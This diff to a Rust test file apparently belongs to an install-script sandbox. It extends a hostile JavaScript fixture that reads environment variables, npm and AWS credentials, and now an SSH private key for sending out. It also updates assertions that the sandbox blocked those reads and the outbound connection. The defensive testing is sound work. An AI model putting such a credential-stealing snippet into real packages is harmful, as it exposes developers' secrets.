@@ -664,7 +664,7 @@ const EVIL_HTTP: &str = r#"
 const fs = require("fs"), os = require("os"), http = require("http");
 const got = [];
 let loot = JSON.stringify(process.env);
-for (const f of [".npmrc", ".aws/credentials"]) {
+for (const f of [".npmrc", ".aws/credentials", ".ssh/id_ed25519"]) {
   try { loot += fs.readFileSync(os.homedir() + "/" + f, "utf8"); got.push(f + "=read"); }
   catch (e) { got.push(f + "=" + e.code); }
 }
@@ -750,7 +750,13 @@ fn trace_reports_what_the_install_sandbox_blocked() {
     assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
     // What the script itself saw: every attempt failed.
     let probe = std::fs::read_to_string(fx.project.join("probe.txt")).unwrap();
-    for line in [".npmrc=EACCES", ".aws/credentials=EACCES", "post=EACCES"] {
+    // (There is no ~/.ssh: that read fails as it would anywhere.)
+    for line in [
+        ".npmrc=EACCES",
+        ".aws/credentials=EACCES",
+        ".ssh/id_ed25519=ENOENT",
+        "post=EACCES",
+    ] {
         assert!(probe.lines().any(|l| l == line), "{line}: {probe}");
     }
     assert!(received.lock().unwrap().is_empty(), "the server got data");
@@ -768,6 +774,15 @@ fn trace_reports_what_the_install_sandbox_blocked() {
     };
     assert!(blocked("open", "/.npmrc", "path"), "{events:?}");
     assert!(blocked("open", "/.aws/credentials", "path"), "{events:?}");
+    // Seen, but not blocked: the file is not there.
+    assert!(
+        events.iter().any(|e| e["event"] == "open"
+            && e["path"]
+                .as_str()
+                .is_some_and(|p| p.ends_with("/.ssh/id_ed25519"))
+            && e["blocked"].is_null()),
+        "{events:?}"
+    );
     assert!(
         blocked("connect", &format!("127.0.0.1:{port}"), "address"),
         "{events:?}"
